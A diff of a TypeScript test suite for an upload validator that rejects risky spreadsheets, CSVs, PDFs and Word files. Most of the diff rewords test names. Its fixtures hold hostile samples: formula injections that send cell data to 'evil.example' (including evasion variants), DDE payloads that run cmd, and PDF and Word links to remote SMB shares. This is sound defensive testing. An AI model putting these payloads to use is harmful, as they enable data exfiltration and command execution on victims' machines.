@@ -31,87 +31,83 @@ const far = '/S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]'
 
 const bad: Record<string, Sample[]> = {
   FILE_CALLS_OUT: [
-    ['a connection that refreshes at the opening', 'a.xlsx', () => makeBook([connection(' refreshOnLoad="1"')])],
-    ['the same in another spelling', 'a.xlsx', () => makeBook([connection(` refreshOnLoad = '&#116;rue'`)])],
+    ['a connection refreshed on opening', 'a.xlsx', () => makeBook([connection(' refreshOnLoad="1"')])],
     [
-      'a table of a query that refreshes at the opening',
+      'a connection refreshed on opening, in another spelling',
+      'a.xlsx',
+      () => makeBook([connection(` refreshOnLoad = '&#116;rue'`)]),
+    ],
+    [
+      'a query table refreshed on opening',
       'a.xlsx',
       () =>
         makeBook([part('xl/queryTables/queryTable1.xml', '<queryTable name="a" refreshOnLoad="1" connectionId="1"/>')]),
     ],
     [
-      'a pivot table of a database',
+      'a pivot table with a database source',
       'a.xlsx',
       () => makeBook([pivot('<cacheSource type="external" connectionId="1"/>')]),
     ],
     ['WEBSERVICE in a cell', 'a.xlsx', () => formula('_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A2)')],
-    ['WEBSERVICE behind escapes', 'a.xlsx', () => formula('_xlfn.&#87;EBSERVICE(A2)')],
-    ['WEBSERVICE in a section of text', 'a.xlsx', () => formula('<![CDATA[_xlfn.WEBSERVICE("http://a.kr")]]>')],
-    ['WEBSERVICE around a comment', 'a.xlsx', () => formula('_xlfn.WEB<!-- -->SERVICE(A2)')],
+    ['WEBSERVICE with escapes', 'a.xlsx', () => formula('_xlfn.&#87;EBSERVICE(A2)')],
+    ['WEBSERVICE in CDATA', 'a.xlsx', () => formula('<![CDATA[_xlfn.WEBSERVICE("http://a.kr")]]>')],
+    ['WEBSERVICE split by a comment', 'a.xlsx', () => formula('_xlfn.WEB<!-- -->SERVICE(A2)')],
     [
-      'WEBSERVICE in a name',
+      'WEBSERVICE in a defined name',
       'a.xlsx',
       () =>
         makeBook([
           part('xl/names.xml', '<definedNames><definedName name="a">_xlfn.WEBSERVICE(A2)</definedName></definedNames>'),
         ]),
     ],
-    ['HYPERLINK in a list of values', 'a.csv', () => '품목,수량\r\n두부,=HYPERLINK("http://evil.example/?"&A1)\r\n'],
+    ['HYPERLINK in a CSV file', 'a.csv', () => '품목,수량\r\n두부,=HYPERLINK("http://evil.example/?"&A1)\r\n'],
     ['WEBSERVICE in a quoted cell', 'a.csv', () => '두부,"=IF(A1>0,\n WEBSERVICE(""http://evil.example""),0)"\r\n'],
-    ['IMPORTXML behind a sign', 'a.csv', () => '두부;+1+IMPORTXML("http://evil.example";"//a")\r\n'],
-    ['IMAGE behind an at sign', 'a.csv', () => '두부\t@IMAGE("http://evil.example/a.png")\r\n'],
-    ['a formula behind the mark of UTF-8', 'a.csv', () => '\ufeff=HYPERLINK("http://evil.example")'],
-    ['a formula in wide letters', 'a.csv', () => '두부,＝WEBSERVICE("http://evil.example")\r\n'],
-    [
-      'a formula behind a sign of its own choice',
-      'a.csv',
-      () => 'sep=|\r\n두부|-WEBSERVICE("http://evil.example")\r\n',
-    ],
+    ['IMPORTXML after a sign', 'a.csv', () => '두부;+1+IMPORTXML("http://evil.example";"//a")\r\n'],
+    ['IMAGE after an at sign', 'a.csv', () => '두부\t@IMAGE("http://evil.example/a.png")\r\n'],
+    ['a formula after a UTF-8 BOM', 'a.csv', () => '\ufeff=HYPERLINK("http://evil.example")'],
+    ['a formula in full-width characters', 'a.csv', () => '두부,＝WEBSERVICE("http://evil.example")\r\n'],
+    ['a formula after a custom separator', 'a.csv', () => 'sep=|\r\n두부|-WEBSERVICE("http://evil.example")\r\n'],
   ],
   FILE_LINKS_PROGRAM: [
     ['DDE later in a cell', 'a.csv', () => "두부,@SUM(1+9)*cmd|' /C calc'!A0\r\n"],
-    ['DDE behind the mark of UTF-8', 'a.csv', () => "\ufeff=cmd|'/c calc'!A0"],
+    ['DDE after a UTF-8 BOM', 'a.csv', () => "\ufeff=cmd|'/c calc'!A0"],
   ],
   FILE_LOADS_REMOTE: [
-    ['an opening that leads to another machine', 'a.pdf', () => makePdfWith(`/OpenAction<<${far}>>`)],
-    ['the same in an object stream', 'a.pdf', () => makePdfWith('/OpenAction 9 0 R', pdfObjects(`<<${far}>>`))],
+    ['an open action pointing to another machine', 'a.pdf', () => makePdfWith(`/OpenAction<<${far}>>`)],
+    ['an open action in an object stream', 'a.pdf', () => makePdfWith('/OpenAction 9 0 R', pdfObjects(`<<${far}>>`))],
     [
-      'its place in UTF-16',
+      'a remote path in UTF-16',
       'a.pdf',
       () => makePdfWith('/OpenAction<</S/GoToR/F<FEFF005C005C006500760069006C005C0061>/D[0/Fit]>>'),
     ],
     [
-      'its place in an object of its own',
+      'a remote path in a separate object',
       'a.pdf',
       () => makePdfWith('/OpenAction<</S/GoToR/F 4 0 R/D[0/Fit]>>', '(\\\\\\\\evil\\\\share)'),
     ],
     [
-      'its place by slashes',
+      'a remote path with slashes',
       'a.pdf',
       () => makePdfWith('/OpenAction<</S/GoToR/F<</Type/Filespec/F(/evil/share/a.pdf)>>/D[0/Fit]>>'),
     ],
-    ['data that are read in', 'a.pdf', () => makePdfWith('', '<</S/ImportData/F(a.fdf)>>')],
-    ['a picture of another machine', 'a.docx', () => makeLetter([docRel('image', 'file:///\\\\10.0.0.1\\a\\b.png')])],
+    ['imported form data', 'a.pdf', () => makePdfWith('', '<</S/ImportData/F(a.fdf)>>')],
+    ['a picture on another machine', 'a.docx', () => makeLetter([docRel('image', 'file:///\\\\10.0.0.1\\a\\b.png')])],
+    ['a field including remote text', 'a.docx', () => field('INCLUDETEXT &quot;https://evil.example/a.docx&quot;')],
     [
-      'a field that takes in a text of the web',
-      'a.docx',
-      () => field('INCLUDETEXT &quot;https://evil.example/a.docx&quot;'),
-    ],
-    [
-      'a field with a picture of another machine',
+      'a field with a picture on another machine',
       'a.docx',
       () => field('INCLUDEPICTURE &quot;\\\\\\\\10.0.0.1\\\\a.png&quot;'),
     ],
   ],
   FILE_LOCKED: [
     [
-      'a locked PDF that leads into another file',
+      'an encrypted PDF pointing into another file',
       'a.pdf',
       () => makePdfWith(`/OpenAction<</S/GoToR/F(x)>>/Encrypt 8 0 R`),
     ],
   ],
   FILE_SENDS_DATA: [
-    ['a form that is sent at the opening', 'a.pdf', () => makePdfWith('/OpenAction<</S/SubmitForm/F(a)/Fields[]>>')],
+    ['a form submitted on opening', 'a.pdf', () => makePdfWith('/OpenAction<</S/SubmitForm/F(a)/Fields[]>>')],
   ],
   FILE_HAS_MEDIA: [
     [
@@ -122,14 +118,14 @@ const bad: Record<string, Sample[]> = {
   ],
   FILE_EMBEDS_DOCUMENT: [
     [
-      'a page in a letter',
+      'an HTML page in a Word document',
       'a.docx',
       () => makeLetter([chunk, part('word/afchunk.htm', '<html><body>a</body></html>')]),
     ],
   ],
 }
 
-describe.each(Object.entries(bad))('refuses with %s', (code, samples) => {
+describe.each(Object.entries(bad))('rejects with %s', (code, samples) => {
   test.each(samples)('%s', async (_what, name, make) => {
     const { status, problem } = await send(mall, token, name, make())
     expect([problem.code, status]).toEqual([code, 422])
@@ -138,17 +134,17 @@ describe.each(Object.entries(bad))('refuses with %s', (code, samples) => {
 })
 
 const ordinary: Sample[] = [
-  ['a connection that waits to be asked', 'a.xlsx', () => makeBook([connection('')])],
-  ['the same, said in full', 'a.xlsx', () => makeBook([connection(' refreshOnLoad="0"')])],
+  ['a connection without automatic refresh', 'a.xlsx', () => makeBook([connection('')])],
+  ['a connection with automatic refresh switched off', 'a.xlsx', () => makeBook([connection(' refreshOnLoad="0"')])],
   [
-    'a pivot table of its own sheet',
+    'a pivot table of the same workbook',
     'a.xlsx',
     () => makeBook([pivot('<cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a"/></cacheSource>')]),
   ],
   ['a link by formula', 'a.xlsx', () => formula('HYPERLINK(&quot;https://nuri.example&quot;,&quot;누리&quot;)')],
   ['a text about WEBSERVICE', 'a.xlsx', () => formula('&quot;WEBSERVICE(&quot;&amp;A1')],
   [
-    'what Google Sheets leaves of its own functions',
+    'placeholders of Google Sheets functions',
     'a.xlsx',
     () =>
       formula(
@@ -156,20 +152,20 @@ const ordinary: Sample[] = [
       ),
   ],
   [
-    'signs, telephone numbers and sums',
+    'signs, phone numbers and sums',
     'a.csv',
     () =>
       '품목,재고,전화\r\n두부,-5,+82-10-1234-5678\r\n"콩나물, 1kg",=SUM(B2:B3),@nuri\r\n- 수입 IMPORT(호주),A|300g!,-\r\n',
   ],
   ['links as text', 'a.csv', () => '품목,링크\r\n두부,https://nuri.example/?a=HYPERLINK(1)\r\n'],
-  ['a PDF that leads to the next chapter', 'a.pdf', () => makePdfWith('', '<</S/GoToR/F(chapter2.pdf)/D[0/Fit]>>')],
-  ['a PDF made from a path of a Mac', 'a.pdf', () => makePdfWith('', '<</Type/Filespec/F(/Users/kim/a.pdf)>>')],
+  ['a PDF linking to the next chapter', 'a.pdf', () => makePdfWith('', '<</S/GoToR/F(chapter2.pdf)/D[0/Fit]>>')],
+  ['a PDF with a macOS file path', 'a.pdf', () => makePdfWith('', '<</Type/Filespec/F(/Users/kim/a.pdf)>>')],
   ['a PDF with a link to a shared folder', 'a.pdf', () => makePdfWith('', '<</S/URI/URI(file://nas/a.pdf)>>')],
-  ['a letter with a linked picture of the web', 'a.docx', () => field('INCLUDEPICTURE &quot;https://a.kr/a.png&quot;')],
-  ['a letter with a linked text of its machine', 'a.docx', () => field('INCLUDETEXT &quot;C:\\\\계약\\\\a.docx&quot;')],
+  ['a Word document with a linked web picture', 'a.docx', () => field('INCLUDEPICTURE &quot;https://a.kr/a.png&quot;')],
+  ['a Word document with linked local text', 'a.docx', () => field('INCLUDETEXT &quot;C:\\\\계약\\\\a.docx&quot;')],
 ]
 
-test.each(ordinary)('takes %s', async (_what, name, make) => {
+test.each(ordinary)('accepts %s', async (_what, name, make) => {
   const { status, problem } = await send(mall, token, name, make())
   expect([problem.code, status]).toEqual([undefined, 200])
 })
